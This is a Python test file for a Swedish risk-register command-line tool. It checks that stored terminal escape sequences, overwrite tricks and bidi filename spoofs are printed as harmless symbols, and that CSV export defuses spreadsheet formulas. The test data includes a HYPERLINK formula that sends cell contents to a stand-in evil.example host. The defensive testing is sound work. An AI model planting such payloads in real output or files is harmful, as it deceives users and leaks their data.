"""Hostile text in the register reaches a terminal as symbols, never as control sequences;
JSON and CSV keep the stored text, and CSV cells cannot start a spreadsheet formula.

The strings are the ones an attacker would use: clear the screen, set the window title,
a hyperlink that says one thing and goes elsewhere, a device control string, the one-byte
C1 CSI, backspace and carriage return to overwrite what was shown, NUL, DEL, and bidi
overrides that reorder the text on screen.

The services refuse control characters in what is typed or imported, but not bidi
characters, and a register holds what older versions, other tools on a shared database
or a restored backup stored; so most hostile text here is written to the database
directly, and the output must be safe whatever it finds.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from sqlalchemy import text

from riskreg.domain.visible import visible
from riskreg.services import editing, plans, reviews
from riskreg.services.context import Context
from tests.clirun import Result, run_cli

CLEAR = "\x1b[2J"
TITLE = "\x1b]0;pwned\x07"
LINK = "\x1b]8;;https://evil.example/\x1b\\regionen.se\x1b]8;;\x1b\\"
DCS = "\x1bPq#0;2;0;0;0\x1b\\"
C1_CSI = "\x9b2J"
BIDI = "faktura\u202efdp.exe\u2066x\u2069"
HOSTILE = f"Risk{CLEAR}{TITLE}{LINK}{DCS}{C1_CSI} bs\x08 nul\x00 del\x7f {BIDI} slut"
HOSTILE_SHOWN = (
    "Risk␛[2J␛]0;pwned␇␛]8;;https://evil.example/␛\\regionen.se␛]8;;␛\\␛Pq#0;2;0;0;0␛\\"
    "<U+009B>2J bs␈ nul␀ del␡ faktura<U+202E>fdp.exe<U+2066>x<U+2069> slut"
)
OVERWRITE = "godkänd\r\x08\x08underkänd"  # a comment that would rewrite its own line
OVERWRITE_SHOWN = "godkänd␍␈␈underkänd"
# Raw characters a terminal would act on; tab and newline are layout here.
RAW = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def assert_nothing_raw(result: Result) -> None:
    assert RAW.search(result.out) is None, repr(RAW.findall(result.out))
    assert RAW.search(result.err) is None, repr(RAW.findall(result.err))


def store(ctx: Context, sql: str, **values: object) -> None:
    """Write to the database as another tool would, past the services' checks."""
    with ctx.engine.begin() as conn:
        conn.execute(text(sql), values)


@pytest.fixture
def hostile_ref(ctx: Context, monkeypatch: pytest.MonkeyPatch) -> str:
    """EK-01 of 2024 with hostile text and a hostile netto comment; a wide terminal so
    the table does not wrap the text being looked for."""
    monkeypatch.setenv("COLUMNS", "400")
    snapshot = plans.load_plan(ctx, 2024)
    risk = next(r for r in snapshot.risks if r.ref == "EK-01")
    reviews.record_risk_review(ctx, snapshot.plan.id, risk.id, 4, 2, 3, comment="ok")
    where = {"risk": risk.id, "plan": snapshot.plan.id}
    store(
        ctx,
        "UPDATE plan_risk SET text = :v WHERE risk_id = :risk AND plan_id = :plan",
        v=HOSTILE,
        **where,
    )
    store(ctx, "UPDATE risk_review SET comment = :v WHERE risk_id = :risk", v=OVERWRITE, **where)
    return risk.ref


# -- the function --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        (CLEAR, "␛[2J"),
        (TITLE, "␛]0;pwned␇"),
        (C1_CSI, "<U+009B>2J"),
        ("a\x08b", "a␈b"),
        ("a\rb", "a␍b"),
        ("a\x00b", "a␀b"),
        ("a\x7fb", "a␡b"),
        ("a\tb", "a␉b"),
        ("a\nb", "a␊b"),
        ("\x85", "<U+0085>"),
        ("abc\u202edef", "abc<U+202E>def"),
        ("\u200f\u061c\u2068", "<U+200F><U+061C><U+2068>"),
    ],
)
def test_visible_shows_each_control_as_a_symbol(raw: str, shown: str) -> None:
    assert visible(raw) == shown


def test_visible_keeps_newlines_only_when_asked_and_leaves_text_alone() -> None:
    assert visible("rad 1\nrad 2\r\n", keep_newlines=True) == "rad 1\nrad 2␍\n"
    swedish = "Åtgärd – ”citat” · S×K=6 ↑ ✓ 日本 עברית"
    assert visible(swedish) == swedish
    assert visible(visible(HOSTILE)) == visible(HOSTILE) == HOSTILE_SHOWN


# -- what reaches the terminal -------------------------------------------------------------


def test_risks_table_shows_hostile_text_as_symbols(
    capsys: pytest.CaptureFixture[str], db_url: str, hostile_ref: str
) -> None:
    result = run_cli(capsys, "--db", db_url, "risks", "--verksamhet", "EK")
    assert result.code == 0, result.err
    assert_nothing_raw(result)
    assert HOSTILE_SHOWN in result.out
    assert hostile_ref in result.out


def test_risk_show_text_shows_hostile_text_as_symbols(
    capsys: pytest.CaptureFixture[str], db_url: str, hostile_ref: str
) -> None:
    result = run_cli(capsys, "--db", db_url, "risk", "show", hostile_ref)
    assert result.code == 0, result.err
    assert_nothing_raw(result)
    assert OVERWRITE_SHOWN in result.out
    assert "faktura<U+202E>fdp.exe" in result.out and "<U+009B>2J" in result.out
    assert "del␡" in result.out and "nul␀" in result.out


def test_json_keeps_the_stored_text_and_escapes_it(
    capsys: pytest.CaptureFixture[str], db_url: str, hostile_ref: str
) -> None:
    listing = run_cli(capsys, "--db", db_url, "risks", "--verksamhet", "EK", "--format", "json")
    shown = run_cli(capsys, "--db", db_url, "risk", "show", hostile_ref, "--format", "json")
    for result in (listing, shown):
        assert result.code == 0, result.err
        assert_nothing_raw(result)
    assert [r["risk"] for r in json.loads(listing.out) if r["ref"] == hostile_ref] == [HOSTILE]
    data = json.loads(shown.out)
    assert data["år"][-1]["text"] == HOSTILE
    assert data["bedömningar"][-1]["kommentar"] == OVERWRITE
    assert "\\u009b2J" in listing.out and "\\u202e" in listing.out and "\\u007f" in listing.out


def test_csv_keeps_the_stored_text(
    capsys: pytest.CaptureFixture[str], db_url: str, hostile_ref: str
) -> None:
    result = run_cli(capsys, "--db", db_url, "risks", "--verksamhet", "EK", "--format", "csv")
    assert result.code == 0, result.err
    rows = {row["ref"]: row for row in csv.DictReader(io.StringIO(result.out))}
    assert rows[hostile_ref]["risk"] == HOSTILE


def test_a_bidi_override_typed_into_the_editor_is_shown_as_a_symbol(
    capsys: pytest.CaptureFixture[str], db_url: str, ctx: Context, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The services take bidi characters (they are text, not controls): the output shows
    them instead of letting them reorder the line."""
    monkeypatch.setenv("COLUMNS", "400")
    plan_id = plans.load_plan(ctx, 2024).plan.id
    ref = editing.add_risk(
        ctx, plan_id, editing.RiskFields(area="EK", text=f"Bilaga {BIDI}."), reason="Test."
    )
    table = run_cli(capsys, "--db", db_url, "risks", "--verksamhet", "EK")
    shown = run_cli(capsys, "--db", db_url, "risk", "show", ref)
    for result in (table, shown):
        assert result.code == 0, result.err
        assert_nothing_raw(result)
        assert "Bilaga faktura<U+202E>fdp.exe<U+2066>x<U+2069>." in result.out


def test_isk_show_shows_a_hostile_motivation_as_symbols(
    capsys: pytest.CaptureFixture[str], db_url: str, ctx: Context
) -> None:
    motivation = f"Se bilaga.{CLEAR}{OVERWRITE}{C1_CSI}\u202e"
    saved = run_cli(
        capsys,
        "--db",
        db_url,
        "isk",
        "set",
        "--year",
        "2024",
        "--betyg",
        "tillräcklig",
        "--motivering",
        "Se bilaga.",
    )
    assert saved.code == 0, saved.err
    store(ctx, "UPDATE isk_assessment SET motivation = :v", v=motivation)
    result = run_cli(capsys, "--db", db_url, "isk", "show", "--year", "2024")
    assert result.code == 0, result.err
    assert_nothing_raw(result)
    assert f"Se bilaga.␛[2J{OVERWRITE_SHOWN}<U+009B>2J<U+202E>" in result.out
    as_json = run_cli(capsys, "--db", db_url, "isk", "show", "--year", "2024", "--format", "json")
    assert_nothing_raw(as_json)
    assert json.loads(as_json.out)["motivering"] == motivation


def test_import_summary_shows_hostile_cells_as_symbols(
    capsys: pytest.CaptureFixture[str], db_url: str, tmp_path: Path
) -> None:
    """The import drops control characters (with a warning) but keeps bidi ones."""
    plan = tmp_path / "plan.txt"
    plan.write_text(
        f"Verksamhet\tRisk\tÅtgärd\nHR\tRisken att {TITLE}X {BIDI}.\tGör {CLEAR}Y.\n",
        encoding="utf-8",
    )
    result = run_cli(
        capsys,
        "--db",
        db_url,
        "import",
        "plan",
        str(plan),
        "--year",
        "2030",
        "--nämnd",
        "HSN",
        "--dry-run",
    )
    assert result.code == 0, result.err
    assert_nothing_raw(result)
    assert "Risken att ]0;pwnedX faktura<U+202E>fdp.exe<U+2066>x<U+2069>." in result.out
    assert result.out.count("\t") == 3  # the separators, and only they, are tabs


@pytest.mark.parametrize(
    "args",
    [
        ("risk", "show", f"EK-01{TITLE}"),  # a domain error quoting the reference
        ("isk", "set", "--sammanträdesdatum", f"12{CLEAR}/2"),  # our BadParameter
        ("risks", "--verksamhet", f"{C1_CSI}EK"),  # NotFound from the listing
        ("risks", "--format", f"{CLEAR}json"),  # click's own message
    ],
    ids=["domain-error", "bad-parameter", "listing-filter", "click-choice"],
)
def test_error_messages_show_the_users_input_as_symbols(
    capsys: pytest.CaptureFixture[str], db_url: str, args: tuple[str, ...]
) -> None:
    result = run_cli(capsys, "--db", db_url, *args)
    assert result.code in (1, 2)
    assert_nothing_raw(result)
    assert "␛" in result.err or "<U+009B>" in result.err or "\\x1b" in result.err


# -- spreadsheets --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t", "\r"], ids=["eq", "plus", "minus", "at", "tab", "cr"]
)
def test_csv_cell_that_would_start_a_formula_gets_an_apostrophe(
    capsys: pytest.CaptureFixture[str], db_url: str, ctx: Context, start: str
) -> None:
    """The risk text as it may be stored by an older version or an import (the editor
    folds leading whitespace, so the value is written directly)."""
    formula = f'{start}HYPERLINK("https://evil.example/?d="&A1;"Klicka")'
    with ctx.engine.begin() as conn:
        conn.execute(
            text(
                "UPDATE plan_risk SET text = :text WHERE risk_id = "
                "(SELECT id FROM risk WHERE ref = 'EK-01')"
            ),
            {"text": formula},
        )
    result = run_cli(capsys, "--db", db_url, "risks", "--verksamhet", "EK", "--format", "csv")
    assert result.code == 0, result.err
    rows = {row["ref"]: row for row in csv.DictReader(io.StringIO(result.out))}
    assert rows["EK-01"]["risk"] == "'" + formula
    assert rows["EK-02"]["risk"] == "Risken att kontanta medel hanteras felaktigt."
    assert rows["EK-01"]["netto"] == "–"  # the en dash for "empty" is not a formula
    as_json = run_cli(capsys, "--db", db_url, "risks", "--verksamhet", "EK", "--format", "json")
    assert json.loads(as_json.out)[0]["risk"] == formula  # JSON keeps the stored text
